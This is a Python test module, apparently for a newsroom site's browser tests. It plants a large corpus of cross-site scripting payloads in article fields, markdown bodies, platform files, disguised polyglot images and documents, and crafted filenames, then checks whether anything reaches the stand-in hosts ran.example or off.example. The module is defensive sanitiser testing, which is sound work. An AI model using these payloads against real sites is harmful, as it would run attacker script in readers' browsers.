"""Attacks by kind, and the places of a newsroom that each of them is tried in.

Each would, where it works, ask `ran.example` (a script that runs) or `off.example` (something
that is fetched).
"""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Iterator
from itertools import product

from tests.browser.newsroom import PLATFORM, PLATFORM_PAGES, STATS, Newsroom
from tests.site.planted import draw_marked

RUN = "fetch('//ran.example/')"
DATA = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
ELEMENTS = tuple(
    line.replace("RUN", RUN)
    for line in """\
<script>RUN</script>
<SCRIPT/x>RUN</SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script src=//off.example/a.js></script>
<img src=x: onerror="RUN">
<img/onerror="RUN"/src=x:>
<IMG SRC=x: OnErRoR="RUN">
"><img src=x: onerror="RUN">
' onmouseover="RUN" x='
</title><script>RUN</script>
</script><script>RUN</script>
</style></textarea></template></noscript><img src=x: onerror="RUN">
--><script>RUN</script><!--
]]><script>RUN</script>
<![CDATA[<script>RUN</script>]]>
<!--><img src=x: onerror="RUN">-->
<svg onload="RUN">
<svg><script>RUN</script></svg>
<svg><animate onbegin="RUN" attributeName=x dur=1s>
<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>
<svg><style><img src=x: onerror="RUN"></style></svg>
<svg><image href=//off.example/a.png /></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">
<math href="javascript:RUN">x</math>
<noscript><p title="</noscript><img src=x: onerror=RUN>">
<template><script>RUN</script></template>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src=//off.example/></iframe>
<object data="data:text/html;base64,DATA"></object>
<embed src="javascript:RUN">
<a href="javascript:RUN">x</a>
<a href=" java&#10;script:RUN">x</a>
<a href="&#x6A;avascript&colon;RUN">x</a>
<a href="\x01javascript:RUN">x</a>
<a href="data:text/html;base64,DATA">x</a>
<a href="vbscript:RUN">x</a>
<a href=/ ping=//off.example/>x</a>
<details open ontoggle="RUN"><summary>x</summary></details>
<body onload="RUN" background=//off.example/a.png>
<input autofocus onfocus="RUN">
<form action="javascript:RUN"><button>x</button></form>
<button formaction="javascript:RUN">x</button>
<input type=image src=//off.example/a.png>
<marquee onstart="RUN">x</marquee>
<video src=x: onerror="RUN" poster=//off.example/a.png></video>
<video><source src=//off.example/a.mp4><track default src=//off.example/a.vtt></video>
<audio autoplay src=//off.example/a.mp3></audio>
<img src=//off.example/a.png>
<img src=https:off.example/a.png>
<img src="\\\\off.example\\a.png">
<img src="/\\off.example/a.png">
<img src="\u3000//off.example/a.png">
<img src="/&#9;/off.example/a.png">
<img src=/x.png srcset="//off.example/a.png 1x">
<picture><source srcset=//off.example/a.webp><img src=/x.png></picture>
<p style="background:url(//off.example/a.png)">x</p>
<style>@import '//off.example/a.css';</style>
<style>*{background:url(//off.example/a.png)}</style>
<link rel=stylesheet href=//off.example/a.css>
<link rel=prefetch href=//off.example/a>
<meta http-equiv=refresh content="0;url=//off.example/">
<base href=//off.example/>
<table background=//off.example/a.png><tr><td>x</td></tr></table>
<x onclick="RUN" style=width:9px tabindex=0 autofocus onfocus="RUN">x</x>
<custom-element><slot onslotchange="RUN"></slot></custom-element>
<portal src=//off.example/></portal>
<frameset onload="RUN"><frame src="javascript:RUN"></frameset>
<xml:script xmlns:xml="http://www.w3.org/1999/xhtml">RUN</xml:script>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">RUN</h:script>
&lt;img src=x: onerror="RUN"&gt;
\\u003cscript\\u003eRUN\\u003c/script\\u003e
{{ '<script>RUN</script>' }}
=HYPERLINK("//off.example/","x")<img src=x: onerror="RUN">""".replace("DATA", DATA)
    .replace("\\x01", "\x01")
    .replace("\\\\", "\\")
    .replace("\\u3000", "\u3000")
    .splitlines()
)
"""As raw HTML, or where only words should stand."""
MARKDOWN = tuple(
    line.replace("RUN", RUN).replace("DATA", DATA).replace("↵", "\n")
    for line in """\
[x](javascript:RUN)
[x](<java&Tab;script:RUN>)
[x](JAVASCRIPT&colon;RUN)
[x](data:text/html;base64,DATA)
![x](javascript:RUN)
![x](//off.example/a.png)
![x](https://off.example/a.png)
![x](https:off.example/a.png)
![x](\\\\off.example\\a.png)
![x](/x.png "x\\" onerror=\\"RUN")
![x" onerror="RUN](/x.png)
[x](/ "x' onmouseover='RUN")
[x][y]↵↵[y]: javascript:RUN
![x][y]↵↵[y]: //off.example/a.png
<javascript:RUN>
x{onclick="RUN"}
## x {onclick="RUN" style="background:url(//off.example/a)"}
x↵{: onload="RUN" style="background:url(//off.example/a)" }
## <img src=x: onerror="RUN">
```"><script>RUN</script>↵x↵```
```html↵</code></pre><script>RUN</script>↵```
x[^"><img src=x: onerror=RUN>]↵↵[^"><img src=x: onerror=RUN>]: y
*[x]: "><img src=x: onerror="RUN">↵↵x
`</code><script>RUN</script>`
| x |↵|---|↵| <img src=x: onerror="RUN"> |
> <img src=x: onerror="RUN">
- <svg onload="RUN">
!!! note "<img src=x: onerror=RUN>"↵    x
x↵:   <img src=x: onerror="RUN">
&#60;script&#62;RUN&#60;/script&#62;
\\<script>RUN\\</script>
<a href="/">[x](javascript:RUN)</a>
<div markdown="1"><img src=x: onerror="RUN"></div>
<p title="↵↵<img src=x: onerror=RUN>">""".splitlines()
)
"""As the body's own marks."""
AROUND = ("{}", "> {}", "- {}", "<div>{}</div>", "## {}", "x[^1]\n\n[^1]: {}")
FIELDS = """title subtitle kicker summary dateline byline-name byline-role tag alt caption credit
    correction area seeker-note entry-title entry-text media-alt media-caption media-credit
    evidence-title expected""".split()


def list_texts() -> tuple[str, ...]:
    """Every attack that is written as text."""
    return ELEMENTS + MARKDOWN


def count_inputs() -> int:
    """How many attacks there are, each in one place."""
    return len(ELEMENTS) * (len(FIELDS) + len(AROUND)) + len(MARKDOWN) + len(list_files())


def write_fields(newsroom: Newsroom) -> None:
    """A case for each attack on words, which has it in each of its keys, all at once."""
    newsroom.write("images/x.png", draw_marked("x"))
    newsroom.write("files/x.pdf", b"%PDF-1.4\n%%EOF\n")
    for number, attack in enumerate(ELEMENTS):
        text = json.dumps(attack + " 一句", ensure_ascii=True)
        keys = f"""\
subtitle: {text}
kicker: {text}
summary: {text}
dateline: {text}
byline: [{{name: {text}, role: {text}}}]
tags: [{text}]
cover: {{src: images/x.png, alt: {text}, caption: {text}, credit: {text}}}
corrections: [{{at: 2022-11-20, text: {text}}}]
case:
  category: medicine
  state: in-progress
  area: {text}
  agencies: [central-hospital]
  basis: reporting
  seeker: {{name: 李女士, note: {text}}}
  expected: {{at: 2026-11-22, what: {text}}}
timeline:
  - {{at: 2022-11-13T13:00, id: asked, stage: received, actor: seeker, title: {text}, text: {text}}}
  - at: 2022-11-14
    id: done
    stage: acting
    actor: central-hospital
    title: {text}
    media: {{src: images/x.png, alt: {text}, caption: {text}, credit: {text}}}
    evidence: [{{href: files/x.pdf, title: {text}}}]
"""
        newsroom.case(f"fields-{number}", keys, "一段。\n", title=text)


def write_bodies(newsroom: Newsroom) -> None:
    """An article for each attack on a body, alone, so that none hides another."""
    bodies = (*("\n\n".join(around.format(one) for around in AROUND) for one in ELEMENTS), *MARKDOWN)
    for number, body in enumerate(bodies):
        newsroom.article(f"body-{number}", body=f"一段。\n\n{body}\n")


def write_platform(newsroom: Newsroom) -> None:
    """The platform's own words."""
    text = ELEMENTS[4] + ELEMENTS[7] + ELEMENTS[9] + ELEMENTS[10]
    words = "试验平台 有问必答 寻医买药 市卫生健康委员会 城市 在应用商店搜索。 点击求助 写下难处。 下载客户端"
    platform = PLATFORM
    for word in words.split():
        platform = platform.replace(f": {word}", f": {json.dumps(text)}")
    newsroom.write("platform/platform.yaml", platform)
    newsroom.write("platform/stats.csv", STATS.replace(",试验报\n", ',"' + text.replace('"', '""') + '"\n'))
    for name in PLATFORM_PAGES:
        newsroom.write(f"platform/{name}.md", f"---\ntitle: {json.dumps(text)}\n---\n\n{text}\n")
    newsroom.case("gone")
    newsroom.write("withdrawn.yaml", f"- {{key: cases/gone, at: 2022-11-21, reason: {json.dumps(text)}}}\n")


def list_files() -> dict[str, bytes]:
    """Files that are not what their names say, or that carry what runs; each is linked to by an article."""
    script = f"<script>{RUN}</script>".encode()
    page = b"<!doctype html><html><body>" + script
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("word/document.xml", page)
    names = {
        f"files/{start}.{ending}": head + body
        for (start, body), (ending, head) in product(
            (("page", page), ("xml", b'<?xml version="1.0"?><h:script xmlns:h='
              b'"http://www.w3.org/1999/xhtml">' + RUN.encode() + b"</h:script>"), ("line", b"\n" + page)),
            (
                ("html", b""), ("htm", b""), ("xhtml", b""), ("xml", b""), ("svg", b""), ("mht", b""),
                ("shtml", b""), ("js", b""), ("pdf", b""), ("PDF", b"%PDF-1.4\n"), ("docx", b""),
                ("csv", b""),
                ("json", b""), ("txt", b""), ("vtt", b"WEBVTT\n\n"), ("mp3", b"ID3\3\0\0\0\0\0\0"),
                ("mp4", b"\0\0\0\x18ftypmp42"), ("unknown", b""), ("HTML", b""), ("html.", b""),
                ("html ", b""),
            ),
        )
    }  # fmt: skip
    picture = draw_marked("x")
    return names | {
        "files/real.docx": archive.getvalue(),
        "images/after.png": picture + page,
        "images/before.png": page + picture,
        "images/after.gif": b"GIF89a/*" + page,
        "images/after.webp": b"RIFF\0\0\0\0WEBPVP8 " + page,
        "images/after.jpg": b"\xff\xd8\xff\xe0" + page + b"\xff\xd9",
        "images/x.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode(),
        "images/y.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'.encode(),
        f'images/a" onerror="{RUN.replace("/", "")}.png': picture,
        "images/<img src=x: onerror=alert(1)>.png": picture,
        "files/'-alert(1)-'.pdf": b"%PDF-1.4\n%%EOF\n",
    }


def write_files(newsroom: Newsroom) -> None:
    """The files, and articles that show or lead to them."""
    for number, (name, data) in enumerate(list_files().items()):
        newsroom.write(name, data)
        place = f"<../{name}>"
        newsroom.article(f"file-{number}", body=f"[一]({place})\n\n![二]({place})\n")


def list_opened(addresses: Iterator[str]) -> list[str]:
    """The addresses that a reader can open: pages and whatever a browser shows as a document."""
    shown = (".html", ".xml", ".svg", ".xhtml", ".htm", ".json", ".txt", ".csv", ".vtt", ".webmanifest")
    return sorted(one for one in addresses if one.endswith(shown))
